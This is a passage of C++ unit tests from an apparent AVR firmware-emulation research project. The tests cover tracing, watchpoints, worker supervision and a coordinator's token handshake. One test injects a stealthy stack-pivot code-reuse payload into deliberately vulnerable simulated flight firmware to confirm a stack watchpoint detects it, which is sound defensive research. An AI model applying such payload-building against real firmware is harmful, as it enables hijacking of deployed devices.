                 std::uint32_t) override {
    ++retired;
  }
  void on_call(const Cpu&, std::uint32_t from, std::uint32_t to,
               std::uint32_t ret) override {
    calls.push_back({from, to, ret});
  }
  void on_ret(const Cpu&, std::uint32_t from, std::uint32_t to,
              std::uint32_t raw, bool reti) override {
    rets.push_back({from, to, raw, reti});
  }
  void on_sp_change(const Cpu&, std::uint16_t old_sp,
                    std::uint16_t new_sp) override {
    sp_changes.emplace_back(old_sp, new_sp);
  }
};

class TracerTest : public ::testing::Test {
 protected:
  TracerTest() : cpu_(avr::atmega2560()) {}

  void load(std::initializer_list<std::uint16_t> words) {
    support::Bytes bytes;
    for (std::uint16_t w : words) {
      bytes.push_back(static_cast<std::uint8_t>(w & 0xFF));
      bytes.push_back(static_cast<std::uint8_t>(w >> 8));
    }
    cpu_.flash().erase();
    cpu_.flash().program(bytes);
    cpu_.reset();
  }

  Cpu cpu_;
};

TEST_F(TracerTest, CallAndRetEdgesCarryExactAddresses) {
  load({enc_rel_jump(Op::Rcall, 2),   // 0: call word 3
        0x0000,                        // 1: return lands here
        enc_no_operand(Op::Break),     // 2
        enc_no_operand(Op::Ret)});     // 3: callee
  HookLog log;
  cpu_.set_tracer(&log);
  cpu_.run(100);
  ASSERT_EQ(log.calls.size(), 1u);
  EXPECT_EQ(log.calls[0].from, 0u);
  EXPECT_EQ(log.calls[0].to, 3u);
  EXPECT_EQ(log.calls[0].ret, 1u);
  ASSERT_EQ(log.rets.size(), 1u);
  EXPECT_EQ(log.rets[0].from, 3u);
  EXPECT_EQ(log.rets[0].to, 1u);
  EXPECT_EQ(log.rets[0].raw, 1u);
  EXPECT_FALSE(log.rets[0].reti);
  // The 3-byte call frame: SP dipped by 3 and came back.
  ASSERT_EQ(log.sp_changes.size(), 2u);
  EXPECT_EQ(log.sp_changes[0].first - log.sp_changes[0].second, 3);
  EXPECT_EQ(log.sp_changes[1].second, log.sp_changes[0].first);
  EXPECT_GT(log.retired, 0u);
}

TEST_F(TracerTest, TracedAndUntracedRunsAgree) {
  // The kTraced=true interpreter instantiation must retire the same
  // instruction stream with the same timing as the untraced one.
  const auto program = {enc_imm(Op::Ldi, 24, 0x10), enc_imm(Op::Ldi, 25, 3),
                        enc_two_reg(Op::Add, 24, 25),
                        enc_rel_jump(Op::Rcall, 0),
                        enc_no_operand(Op::Break), enc_no_operand(Op::Ret)};
  load(program);
  const std::uint64_t untraced_cycles = cpu_.run(1000);
  const std::uint8_t untraced_r24 = cpu_.reg(24);

  load(program);
  HookLog log;
  cpu_.set_tracer(&log);
  EXPECT_EQ(cpu_.run(1000), untraced_cycles);
  EXPECT_EQ(cpu_.reg(24), untraced_r24);
  EXPECT_EQ(cpu_.tracer(), &log);
  cpu_.set_tracer(nullptr);
  EXPECT_EQ(cpu_.tracer(), nullptr);
}

TEST_F(TracerTest, MultiTracerFansOutInOrder) {
  load({enc_rel_jump(Op::Rcall, 0), enc_no_operand(Op::Break),
        enc_no_operand(Op::Ret)});
  HookLog a, b;
  trace::MultiTracer mux;
  mux.add(&a);
  mux.add(&b);
  EXPECT_EQ(mux.size(), 2u);
  cpu_.set_tracer(&mux);
  cpu_.run(100);
  EXPECT_EQ(a.calls.size(), 1u);
  EXPECT_EQ(b.calls.size(), 1u);
  EXPECT_EQ(a.retired, b.retired);
  mux.remove(&b);
  EXPECT_EQ(mux.size(), 1u);
}

TEST(Watchpoints, OutsideModeIsEdgeTriggered) {
  Cpu cpu(avr::atmega2560());
  trace::Watchpoints watch;
  const int id = watch.watch_sp(0x2100, 0x21FF, trace::SpWatchMode::Outside,
                                "stack-floor");
  // Leave the region: one hit for the whole excursion, however deep.
  watch.on_sp_change(cpu, 0x2100, 0x20FF);
  watch.on_sp_change(cpu, 0x20FF, 0x20F0);
  watch.on_sp_change(cpu, 0x20F0, 0x20E0);
  EXPECT_EQ(watch.hit_count(id), 1u);
  // Come back inside (re-arms), leave again: second hit.
  watch.on_sp_change(cpu, 0x20E0, 0x2150);
  watch.on_sp_change(cpu, 0x2150, 0x2000);
  EXPECT_EQ(watch.hit_count(id), 2u);
  ASSERT_EQ(watch.hits().size(), 2u);
  EXPECT_EQ(watch.hits()[0].value, 0x20FFu);
  EXPECT_EQ(watch.hits()[0].label, "stack-floor");
}

TEST(Watchpoints, InsideModeFlagsForbiddenZoneAndFeedsSink) {
  Cpu cpu(avr::atmega2560());
  trace::Watchpoints watch;
  trace::ExecutionTrace sink(8, trace::kAllEvents);
  watch.set_sink(&sink);
  const int id =
      watch.watch_sp(0x216D, 0x219D, trace::SpWatchMode::Inside, "buffer");
  watch.on_sp_change(cpu, 0x21D0, 0x216C);  // pivot value: still outside
  EXPECT_EQ(watch.hit_count(id), 0u);
  watch.on_sp_change(cpu, 0x216C, 0x216D);  // first pop enters the zone
  EXPECT_EQ(watch.hit_count(id), 1u);
  watch.on_sp_change(cpu, 0x216D, 0x2170);  // deeper in: same excursion
  EXPECT_EQ(watch.hit_count(id), 1u);
  ASSERT_EQ(sink.size(), 1u);
  EXPECT_EQ(sink.at(0).kind, trace::EventKind::WatchHit);
  EXPECT_EQ(sink.at(0).a, static_cast<std::uint32_t>(id));
  EXPECT_EQ(sink.at(0).b, 0x216Du);
}

TEST(Watchpoints, RangeWatchesAreLevelTriggeredPerAccess) {
  Cpu cpu(avr::atmega2560());
  trace::Watchpoints watch;
  const int wr = watch.watch_write(0x0400, 0x04FF, "cal-table");
  const int rd = watch.watch_read(0x0200, 0x02FF, "secrets");
  watch.on_store(cpu, 0x0410, 0x11);
  watch.on_store(cpu, 0x0410, 0x22);  // same address: counts again
  watch.on_store(cpu, 0x0500, 0x33);  // outside
  watch.on_load(cpu, 0x0210, 0x44);
  watch.on_load(cpu, 0x0410, 0x55);  // read of a write-watched range: no hit
  EXPECT_EQ(watch.hit_count(wr), 2u);
  EXPECT_EQ(watch.hit_count(rd), 1u);
}

TEST(Watchpoints, TracksSpWatermarks) {
  Cpu cpu(avr::atmega2560());
  trace::Watchpoints watch;
  watch.on_sp_change(cpu, 0x21FF, 0x21FC);
  watch.on_sp_change(cpu, 0x21FC, 0x21D0);
  watch.on_sp_change(cpu, 0x21D0, 0x21FF);
  EXPECT_EQ(watch.sp_min(), 0x21D0);
  EXPECT_EQ(watch.sp_max(), 0x21FF);
}

// --- Full-firmware integration ----------------------------------------------

const firmware::Firmware& vuln_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true), toolchain::ToolchainOptions::mavr());
  return fw;
}

TEST(Profiler, AttributesCyclesToFirmwareFunctions) {
  sim::Board board;
  board.flash_image(vuln_fw().image.bytes);
  board.set_gyro(0, 120);
  board.run_cycles(100'000);  // boot untraced
  trace::Profiler profiler(vuln_fw().image);
  board.cpu().set_tracer(&profiler);
  board.run_cycles(500'000);
  board.cpu().set_tracer(nullptr);

  EXPECT_GT(profiler.total_cycles(), 400'000u);
  const auto* loop = profiler.lookup("sens_read");
  ASSERT_NE(loop, nullptr);
  EXPECT_GT(loop->cycles, 0u);
  EXPECT_GT(loop->instructions, 0u);
  EXPECT_GT(loop->calls, 0u);
  // Benign steady state never leaves the symbol table for long.
  EXPECT_LT(profiler.unattributed_cycles(), profiler.total_cycles() / 100);
  const auto ranked = profiler.by_cycles();
  ASSERT_GT(ranked.size(), 1u);
  EXPECT_GE(ranked[0].cycles, ranked[1].cycles);
  EXPECT_NE(profiler.report(5).find("sens_read"), std::string::npos);
}

TEST(Session, BenignRunStaysOutOfThePacketBuffer) {
  sim::Board board;
  board.flash_image(vuln_fw().image.bytes);
  board.set_gyro(0, 120);
  board.run_cycles(300'000);

  const attack::AttackPlan plan = attack::analyze(vuln_fw().image);
  trace::Session session(vuln_fw().image);
  const int id = session.watchpoints().watch_sp(
      plan.frame.buffer_addr,
      static_cast<std::uint16_t>(plan.frame.buffer_addr +
                                 firmware::kVulnBufBytes / 2),
      trace::SpWatchMode::Inside, "sp-in-packet-buffer");
  session.attach(board.cpu(), &board.telemetry());

  sim::GroundStation gcs(board);
  gcs.send_heartbeat();
  board.run_cycles(2'000'000);
  gcs.poll();

  EXPECT_FALSE(board.crashed());
  EXPECT_EQ(session.watchpoints().hit_count(id), 0u);
  // SP never enters the packet payload buffer on a benign run.
  EXPECT_GT(session.watchpoints().sp_min(), plan.frame.buffer_addr +
                                                firmware::kVulnBufBytes / 2);
  // The tap reassembled traffic in both directions on one timeline.
  bool saw_tx = false, saw_rx = false;
  for (const auto& rec : session.packets()) {
    (rec.to_host ? saw_tx : saw_rx) = true;
  }
  EXPECT_TRUE(saw_tx);
  EXPECT_TRUE(saw_rx);
  session.detach();
  EXPECT_EQ(board.cpu().tracer(), nullptr);
}

TEST(Session, V2StealthyAttackFiresSpWatchpointExactlyOnce) {
  // Acceptance scenario from the paper §IV-C: the stk_move pivot parks SP
  // at buffer_addr-1 (numerically identical to the legitimate frame
  // bottom), then the gadget chain pops with SP *inside* the PARAM_SET
  // payload buffer. The forbidden-zone watch must fire exactly once —
  // and the board keeps flying, which is what makes the attack stealthy.
  sim::Board board;
  board.flash_image(vuln_fw().image.bytes);
  board.set_gyro(0, 120);
  board.run_cycles(300'000);

  const attack::AttackPlan plan = attack::analyze(vuln_fw().image);
  trace::Session::Options opts;
  opts.trace_capacity = std::size_t{1} << 20;  // keep the whole 4M-cycle run
  trace::Session session(vuln_fw().image, opts);
  const int id = session.watchpoints().watch_sp(
      plan.frame.buffer_addr,
      static_cast<std::uint16_t>(plan.frame.buffer_addr +
                                 firmware::kVulnBufBytes / 2),
      trace::SpWatchMode::Inside, "sp-in-packet-buffer");
  session.attach(board.cpu(), &board.telemetry());

  sim::GroundStation gcs(board);
  gcs.send_heartbeat();
  const attack::Write3 write{plan.gyro_cal_addr, {0x11, 0x22, 0x33}};
  gcs.send_raw_param_set(plan.builder().v2_payload({write}));
  board.run_cycles(4'000'000);
  gcs.poll();

  EXPECT_FALSE(board.crashed()) << "V2 is the stealthy variant";
  ASSERT_EQ(session.watchpoints().hit_count(id), 1u);
  const trace::WatchHit& hit = session.watchpoints().hits()[0];
  EXPECT_EQ(hit.value, plan.frame.buffer_addr);  // first pop enters at lo
  EXPECT_GT(hit.cycle, 300'000u);
  // The hit also landed in the ring for offline analysis.
  bool in_trace = false;
  for (std::size_t i = 0; i < session.trace().size(); ++i) {
    const trace::Event& e = session.trace().at(i);
    if (e.kind == trace::EventKind::WatchHit &&
        e.a == static_cast<std::uint32_t>(id)) {
      in_trace = true;
    }
  }
  EXPECT_TRUE(in_trace);
  EXPECT_NE(session.trace().jsonl().find("watch_hit"), std::string::npos);
}

TEST(Session, LegacyBoardHookIsNotClobbered) {
  // Board::set_trace_hook(nullptr) must release the tracer slot only when
  // it still owns it — an externally attached Session wins.
  sim::Board board;
  board.flash_image(vuln_fw().image.bytes);
  board.run_cycles(10'000);

  std::uint64_t hook_calls = 0;
  board.set_trace_hook([&](const avr::Cpu&) { ++hook_calls; });
  board.run_cycles(1'000);
  EXPECT_GT(hook_calls, 0u);

  trace::Session session;
  session.attach(board.cpu());
  board.set_trace_hook(nullptr);  // stale clear: session still attached
  EXPECT_NE(board.cpu().tracer(), nullptr);
  board.run_cycles(1'000);
  EXPECT_GT(session.trace().total_recorded(), 0u);
  session.detach();
}

}  // namespace
}  // namespace mavr
