// Supervisor unit tests over thread-backed WorkerHandles (DESIGN.md §14).
//
// The supervisor is mechanism-agnostic: it only sees the WorkerHandle
// interface, so these tests model the daemon's forked workers with
// threads — fast, sanitizer-friendly, and able to act out every failure
// mode on demand: clean exits, crashes (thread returns), crash loops
// (instant death on spawn), and wedges (alive but heartbeat-silent,
// immune to terminate()).
#include <atomic>
#include <chrono>
#include <cstdint>
#include <memory>
#include <thread>

#include <gtest/gtest.h>

#include "campaignd/protocol.hpp"
#include "campaignd/supervisor.hpp"
#include "support/socket.hpp"

namespace {

using namespace mavr;
using Clock = std::chrono::steady_clock;

/// Polls `pred` until true or `budget_ms` elapses.
template <typename Pred>
bool eventually(Pred pred, int budget_ms = 5'000) {
  const auto deadline = Clock::now() + std::chrono::milliseconds(budget_ms);
  while (Clock::now() < deadline) {
    if (pred()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  return pred();
}

/// A worker that is really a thread. Heartbeats (or pointedly doesn't)
/// over a real socketpair, dies on cue, and can play dead to terminate().
class ThreadWorker : public campaignd::WorkerHandle {
 public:
  struct Behavior {
    bool heartbeat = true;      ///< false: silent — looks wedged
    int crash_after_ms = 0;     ///< >0: exit uninvited after this long
    bool ignore_terminate = false;  ///< wedge: only kill_now() works
  };

  explicit ThreadWorker(Behavior behavior) {
    auto ends = support::Socket::make_pair();
    control_ = std::move(ends.first);
    worker_end_ = std::move(ends.second);
    thread_ = std::thread([this, behavior] { body(behavior); });
  }
  ~ThreadWorker() override {
    killed_.store(true);
    if (thread_.joinable()) thread_.join();
  }

  bool alive() override { return !done_.load(); }
  void terminate() override { stop_.store(true); }
  void kill_now() override { killed_.store(true); }
  support::Socket* control() override { return &control_; }

 private:
  void body(Behavior behavior) {
    const auto born = Clock::now();
    std::uint64_t seq = 0;
    while (!killed_.load()) {
      if (!behavior.ignore_terminate && stop_.load()) break;
      if (behavior.crash_after_ms > 0 &&
          Clock::now() - born >
              std::chrono::milliseconds(behavior.crash_after_ms)) {
        break;  // "crash": exit without being asked
      }
      if (behavior.heartbeat) {
        if (!campaignd::send_message(worker_end_, campaignd::MsgType::kPing,
                                     campaignd::encode_u64_body(seq++))) {
          break;  // supervisor hung up
        }
        campaignd::Message msg;  // drain pongs; liveness only needs flow
        while (campaignd::recv_message(worker_end_, &msg, 0) ==
               support::IoStatus::kOk) {
        }
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    done_.store(true);
  }

  support::Socket control_;     ///< supervisor's end
  support::Socket worker_end_;  ///< this thread's end
  std::atomic<bool> stop_{false};
  std::atomic<bool> killed_{false};
  std::atomic<bool> done_{false};
  std::thread thread_;
};

campaignd::SupervisorConfig fast_config() {
  campaignd::SupervisorConfig config;
  config.tick_ms = 10;
  config.restart_backoff_ms = 5;
  config.restart_backoff_max_ms = 50;
  config.heartbeat_timeout_ms = 0;  // wedge detection off unless a test
                                    // opts in — crashes don't need it
  config.stop_grace_ms = 500;
  return config;
}

TEST(SupervisorTest, SpawnsMinWithDepthSignalMaxWithout) {
  for (const bool with_depth : {true, false}) {
    auto config = fast_config();
    config.min_workers = 2;
    config.max_workers = 4;
    std::atomic<int> spawned{0};
    campaignd::Supervisor supervisor(
        config,
        [&spawned](std::uint64_t) {
          ++spawned;
          return std::make_unique<ThreadWorker>(ThreadWorker::Behavior{});
        },
        with_depth ? campaignd::QueueDepthFn([] { return std::uint64_t{0}; })
                   : campaignd::QueueDepthFn(nullptr));
    supervisor.start();
    // The initial pool exists before start() returns.
    EXPECT_EQ(supervisor.stats().live, with_depth ? 2u : 4u);
    supervisor.stop();
    EXPECT_EQ(supervisor.stats().live, 0u);
    EXPECT_EQ(spawned.load(), with_depth ? 2 : 4);
    EXPECT_EQ(supervisor.stats().restarts, 0u);
  }
}

TEST(SupervisorTest, RestartsACrashedWorker) {
  auto config = fast_config();
  config.min_workers = 1;
  config.max_workers = 1;
  config.crash_loop_failures = 100;  // don't quarantine in this test
  std::atomic<int> spawned{0};
  campaignd::Supervisor supervisor(
      config,
      [&spawned](std::uint64_t) {
        // First worker crashes 30 ms in; replacements are healthy.
        ThreadWorker::Behavior b;
        b.crash_after_ms = spawned++ == 0 ? 30 : 0;
        return std::make_unique<ThreadWorker>(b);
      },
      [] { return std::uint64_t{0}; });
  supervisor.start();
  EXPECT_TRUE(eventually(
      [&supervisor] { return supervisor.stats().restarts >= 1; }));
  EXPECT_TRUE(
      eventually([&supervisor] { return supervisor.stats().live == 1; }));
  supervisor.stop();
  EXPECT_GE(supervisor.stats().spawned, 2u);
}

TEST(SupervisorTest, CrashLoopQuarantinesTheSlot) {
  auto config = fast_config();
  config.min_workers = 1;
  config.max_workers = 1;
  config.crash_loop_failures = 3;
  config.crash_loop_window_ms = 10'000;
  config.quarantine_ms = 60'000;  // benched for the rest of the test
  std::atomic<int> spawned{0};
  campaignd::Supervisor supervisor(
      config,
      [&spawned](std::uint64_t) {
        ++spawned;
        ThreadWorker::Behavior b;
        b.crash_after_ms = 1;  // dies on arrival, every time
        return std::make_unique<ThreadWorker>(b);
      },
      [] { return std::uint64_t{0}; });
  supervisor.start();
  EXPECT_TRUE(eventually(
      [&supervisor] { return supervisor.stats().quarantines >= 1; }));
  // Quarantine stops the thrash: spawn count freezes while benched.
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  const int frozen = spawned.load();
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_EQ(spawned.load(), frozen);
  EXPECT_EQ(supervisor.stats().live, 0u);  // capacity dropped, no loop
  supervisor.stop();
}

TEST(SupervisorTest, WedgedWorkerIsKilledAndReplaced) {
  auto config = fast_config();
  config.min_workers = 1;
  config.max_workers = 1;
  config.heartbeat_timeout_ms = 100;  // >> tick, << test budget
  config.crash_loop_failures = 100;
  std::atomic<int> spawned{0};
  campaignd::Supervisor supervisor(
      config,
      [&spawned](std::uint64_t) {
        // First worker runs but never heartbeats and shrugs off
        // terminate() — only kill_now() can clear it.
        ThreadWorker::Behavior b;
        b.heartbeat = spawned++ != 0;
        b.ignore_terminate = spawned == 1;
        return std::make_unique<ThreadWorker>(b);
      },
      [] { return std::uint64_t{0}; });
  supervisor.start();
  EXPECT_TRUE(eventually(
      [&supervisor] { return supervisor.stats().wedge_kills >= 1; }));
  // The healthy replacement heartbeats, so it is NOT wedge-killed.
  EXPECT_TRUE(
      eventually([&supervisor] { return supervisor.stats().live == 1; }));
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_EQ(supervisor.stats().wedge_kills, 1u);
  supervisor.stop();
}

TEST(SupervisorTest, AutoscalesWithQueueDepth) {
  auto config = fast_config();
  config.min_workers = 1;
  config.max_workers = 3;
  config.idle_ticks_before_retire = 5;  // impatient scale-down for tests
  std::atomic<std::uint64_t> depth{0};
  campaignd::Supervisor supervisor(
      config,
      [](std::uint64_t) {
        return std::make_unique<ThreadWorker>(ThreadWorker::Behavior{});
      },
      [&depth] { return depth.load(); });
  supervisor.start();
  EXPECT_EQ(supervisor.stats().live, 1u);  // starts (and idles) at min
  // Pending work appears: scale-up is immediate (next tick), capped at
  // max.
  depth.store(10);
  EXPECT_TRUE(
      eventually([&supervisor] { return supervisor.stats().live == 3; }));
  // Queue drains: scale-down retires one worker per idle window, back
  // to min and no further.
  depth.store(0);
  EXPECT_TRUE(
      eventually([&supervisor] { return supervisor.stats().live == 1; }));
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  EXPECT_EQ(supervisor.stats().live, 1u);
  EXPECT_EQ(supervisor.stats().retired, 2u);
  EXPECT_EQ(supervisor.stats().restarts, 0u);  // retirement is not a crash
  supervisor.stop();
}

TEST(HeartbeatClientTest, PingsFlowAndStopReturnsPromptly) {
  auto ends = support::Socket::make_pair();
  support::Socket supervisor_end = std::move(ends.first);
  support::Socket worker_end = std::move(ends.second);
  std::atomic<bool> stop{false};
  std::thread client([&worker_end, &stop] {
    campaignd::heartbeat_client(worker_end, /*interval_ms=*/20, stop,
                                /*missed_limit=*/1'000);
  });
  // Supervisor side: answer pings for a while, proving the loop runs.
  int pings = 0;
  const auto deadline = Clock::now() + std::chrono::seconds(5);
  while (pings < 3 && Clock::now() < deadline) {
    campaignd::Message msg;
    if (campaignd::recv_message(supervisor_end, &msg, 50) ==
            support::IoStatus::kOk &&
        msg.type == campaignd::MsgType::kPing) {
      ++pings;
      campaignd::send_message(supervisor_end, campaignd::MsgType::kPong,
                              msg.body);
    }
  }
  EXPECT_GE(pings, 3);
  stop.store(true);
  client.join();  // returns within an interval of stop being raised
}

TEST(HeartbeatClientTest, ReturnsWhenSupervisorVanishes) {
  auto ends = support::Socket::make_pair();
  support::Socket supervisor_end = std::move(ends.first);
  support::Socket worker_end = std::move(ends.second);
  std::atomic<bool> stop{false};
  std::thread client([&worker_end, &stop] {
    campaignd::heartbeat_client(worker_end, /*interval_ms=*/20, stop,
                                /*missed_limit=*/3);
  });
  supervisor_end.close();  // the supervisor process is gone
  client.join();           // kClosed → immediate return, stop unraised
  EXPECT_FALSE(stop.load());
}

TEST(HeartbeatClientTest, GivesUpAfterConsecutiveSilentIntervals) {
  auto ends = support::Socket::make_pair();
  support::Socket supervisor_end = std::move(ends.first);
  support::Socket worker_end = std::move(ends.second);
  std::atomic<bool> stop{false};
  const auto t0 = Clock::now();
  // Supervisor end open but mute: no pongs ever. The client must give
  // up after missed_limit intervals rather than ping forever.
  campaignd::heartbeat_client(worker_end, /*interval_ms=*/20, stop,
                              /*missed_limit=*/2);
  const auto elapsed = Clock::now() - t0;
  EXPECT_GE(elapsed, std::chrono::milliseconds(40));
  EXPECT_LT(elapsed, std::chrono::seconds(5));
}

}  // namespace
