// Transport- and handshake-level campaignd tests: endpoint parsing, the
// throughput-aware grain function, authentication rejection (the
// acceptance bar: an unauthenticated TCP peer is turned away before any
// chunk is assigned), and regression pins for three lifecycle bugs —
// the unreaped handler-thread leak, the EINTR timeout restart in
// wait_readable, and the stop-deaf kWait sleep.
#include <atomic>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include <pthread.h>

#include <gtest/gtest.h>

#include "campaign/scenarios.hpp"
#include "campaignd/client.hpp"
#include "campaignd/coordinator.hpp"
#include "campaignd/protocol.hpp"
#include "campaignd/worker.hpp"
#include "support/socket.hpp"

namespace {

using namespace mavr;
using Clock = std::chrono::steady_clock;

int elapsed_ms(Clock::time_point since) {
  return static_cast<int>(std::chrono::duration_cast<std::chrono::milliseconds>(
                              Clock::now() - since)
                              .count());
}

campaign::CampaignConfig small_config() {
  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kBruteForceRerand;
  config.trials = 320;
  config.jobs = 2;
  config.seed = 0xC0FFEE;
  config.n_functions = 5;
  return config;
}

// --- endpoint specs ------------------------------------------------------

TEST(EndpointTest, ParsesUnixSpecs) {
  const auto ep = support::parse_endpoint("unix:/tmp/mavr.sock");
  ASSERT_TRUE(ep.has_value());
  EXPECT_EQ(ep->kind, support::Endpoint::Kind::kUnix);
  EXPECT_EQ(ep->path, "/tmp/mavr.sock");
  EXPECT_EQ(support::endpoint_name(*ep), "unix:/tmp/mavr.sock");
}

TEST(EndpointTest, BarePathReadsAsUnix) {
  const auto ep = support::parse_endpoint("/run/mavr/campaignd.sock");
  ASSERT_TRUE(ep.has_value());
  EXPECT_EQ(ep->kind, support::Endpoint::Kind::kUnix);
  EXPECT_EQ(ep->path, "/run/mavr/campaignd.sock");
}

TEST(EndpointTest, ParsesTcpSpecs) {
  const auto ep = support::parse_endpoint("tcp:10.0.0.7:9000");
  ASSERT_TRUE(ep.has_value());
  EXPECT_EQ(ep->kind, support::Endpoint::Kind::kTcp);
  EXPECT_EQ(ep->host, "10.0.0.7");
  EXPECT_EQ(ep->port, 9000);
  EXPECT_EQ(support::endpoint_name(*ep), "tcp:10.0.0.7:9000");
}

TEST(EndpointTest, ParsesBracketedIpv6) {
  const auto ep = support::parse_endpoint("tcp:[::1]:7001");
  ASSERT_TRUE(ep.has_value());
  EXPECT_EQ(ep->kind, support::Endpoint::Kind::kTcp);
  EXPECT_EQ(ep->host, "::1");
  EXPECT_EQ(ep->port, 7001);
  EXPECT_EQ(support::endpoint_name(*ep), "tcp:[::1]:7001");
}

TEST(EndpointTest, RejectsMalformedSpecs) {
  EXPECT_FALSE(support::parse_endpoint("").has_value());
  EXPECT_FALSE(support::parse_endpoint("unix:").has_value());
  EXPECT_FALSE(support::parse_endpoint("tcp:").has_value());
  EXPECT_FALSE(support::parse_endpoint("tcp:nohost").has_value());
  EXPECT_FALSE(support::parse_endpoint("tcp::9000").has_value());
  EXPECT_FALSE(support::parse_endpoint("tcp:host:").has_value());
  EXPECT_FALSE(support::parse_endpoint("tcp:host:70000").has_value());
  EXPECT_FALSE(support::parse_endpoint("tcp:host:9x").has_value());
}

// --- throughput-aware grain ----------------------------------------------

TEST(ScaledAssignChunksTest, UnknownRatesGetFullGrain) {
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, 0.0, 10.0), 8u);
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, 5.0, 0.0), 8u);
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, -1.0, 10.0), 8u);
}

TEST(ScaledAssignChunksTest, FastestConnectionGetsFullGrain) {
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, 10.0, 10.0), 8u);
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, 12.0, 10.0), 8u);
}

TEST(ScaledAssignChunksTest, SlowerConnectionsScaleProportionally) {
  // 25% of the leader's rate with grain 8 → ceil(8 * 0.25) = 2 chunks.
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, 2.5, 10.0), 2u);
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, 5.0, 10.0), 4u);
}

TEST(ScaledAssignChunksTest, NeverBelowOneNeverAboveGrain) {
  EXPECT_EQ(campaignd::scaled_assign_chunks(8, 0.001, 10.0), 1u);
  EXPECT_EQ(campaignd::scaled_assign_chunks(1, 0.001, 10.0), 1u);
  for (double rate = 0.5; rate <= 12.0; rate += 0.5) {
    const std::uint32_t n = campaignd::scaled_assign_chunks(6, rate, 10.0);
    EXPECT_GE(n, 1u);
    EXPECT_LE(n, 6u);
  }
}

// --- handshake / authentication ------------------------------------------
// All over TCP loopback: the transport the handshake exists for.

class HandshakeTest : public ::testing::Test {
 protected:
  campaignd::CoordinatorConfig coordinator_config(const std::string& token) {
    campaignd::CoordinatorConfig config;
    config.listen_endpoint = "tcp:127.0.0.1:0";
    config.auth_token = token;
    config.wait_hint_ms = 5;
    return config;
  }
};

TEST_F(HandshakeTest, WrongTokenClientIsRejected) {
  campaignd::Coordinator coordinator(coordinator_config("sesame"));
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  const campaignd::SubmitOutcome bad = campaignd::submit_campaign(
      endpoint, small_config(), /*auth_token=*/"wrong");
  EXPECT_FALSE(bad.ok);
  EXPECT_NE(bad.error.find("handshake rejected"), std::string::npos)
      << bad.error;
  EXPECT_NE(bad.error.find("authentication failed"), std::string::npos)
      << bad.error;

  const campaignd::SubmitOutcome none = campaignd::submit_campaign(
      endpoint, small_config(), /*auth_token=*/"");
  EXPECT_FALSE(none.ok) << "token-less client must not pass a token gate";

  // Same coordinator, right token: accepted — the gate is the token, not
  // the transport.
  const campaignd::SubmitOutcome good = campaignd::submit_campaign(
      endpoint, small_config(), /*auth_token=*/"sesame");
  EXPECT_TRUE(good.ok) << good.error;
  coordinator.stop();
}

TEST_F(HandshakeTest, TokenPresentedToTokenlessCoordinatorIsRejected) {
  campaignd::Coordinator coordinator(coordinator_config(""));
  coordinator.start();
  const campaignd::SubmitOutcome out = campaignd::submit_campaign(
      coordinator.endpoint(), small_config(), /*auth_token=*/"stray-token");
  EXPECT_FALSE(out.ok);
  EXPECT_NE(out.error.find("handshake rejected"), std::string::npos)
      << out.error;
  coordinator.stop();
}

TEST_F(HandshakeTest, WrongTokenWorkerIsAssignedNothing) {
  campaignd::Coordinator coordinator(coordinator_config("sesame"));
  coordinator.start();
  const std::string endpoint = coordinator.endpoint();

  const campaign::CampaignConfig config = small_config();
  const campaignd::SubmitOutcome submit =
      campaignd::submit_campaign(endpoint, config, "sesame");
  ASSERT_TRUE(submit.ok) << submit.error;

  // The impostor is turned away at the handshake — permanently (no
  // retry), with zero chunks completed...
  campaignd::WorkerOptions impostor;
  impostor.auth_token = "wrong";
  impostor.connect_attempts = 5;
  impostor.backoff_ms = 5;
  EXPECT_EQ(campaignd::run_worker(endpoint, impostor), 0u);

  // ...and the campaign is untouched: nothing was assigned, so nothing
  // could have been computed or reclaimed.
  const campaignd::PollOutcome mid =
      campaignd::poll_campaign(endpoint, submit.campaign_id, "sesame");
  ASSERT_TRUE(mid.ok) << mid.error;
  EXPECT_EQ(mid.status.chunks_done, 0u);
  EXPECT_EQ(mid.status.state, campaignd::CampaignState::kQueued);

  // A properly authenticated worker then completes it, bit-identical to
  // the in-process engine.
  const campaign::CampaignStats in_process = campaign::run_campaign(config);
  std::atomic<bool> stop{false};
  campaignd::WorkerOptions honest;
  honest.auth_token = "sesame";
  honest.stop = &stop;
  std::thread worker(
      [&] { campaignd::run_worker(endpoint, honest); });
  const campaignd::PollOutcome done = campaignd::wait_campaign(
      endpoint, submit.campaign_id, 10, 60'000, "sesame");
  stop.store(true);
  worker.join();
  coordinator.stop();
  ASSERT_TRUE(done.ok) << done.error;
  EXPECT_EQ(std::memcmp(&done.status.stats, &in_process, sizeof in_process),
            0);
}

TEST_F(HandshakeTest, ProtocolVersionMismatchIsRejected) {
  campaignd::Coordinator coordinator(coordinator_config(""));
  coordinator.start();
  const auto ep = support::parse_endpoint(coordinator.endpoint());
  ASSERT_TRUE(ep.has_value());

  // Speak the framing by hand: a kHello from a future protocol must be
  // answered with kReject naming the version, not a challenge.
  support::Socket sock = support::connect_endpoint(*ep, 10, 10);
  ASSERT_TRUE(sock.valid());
  campaignd::HelloBody hello;
  hello.protocol_version = campaignd::kProtocolVersion + 1;
  hello.peer_nonce = 42;
  ASSERT_TRUE(send_message(sock, campaignd::MsgType::kHello,
                           campaignd::encode_hello(hello)));
  campaignd::Message reply;
  ASSERT_EQ(campaignd::recv_message(sock, &reply, 5'000),
            support::IoStatus::kOk);
  EXPECT_EQ(reply.type, campaignd::MsgType::kReject);
  EXPECT_NE(campaignd::decode_string_body(reply.body).find("version"),
            std::string::npos);
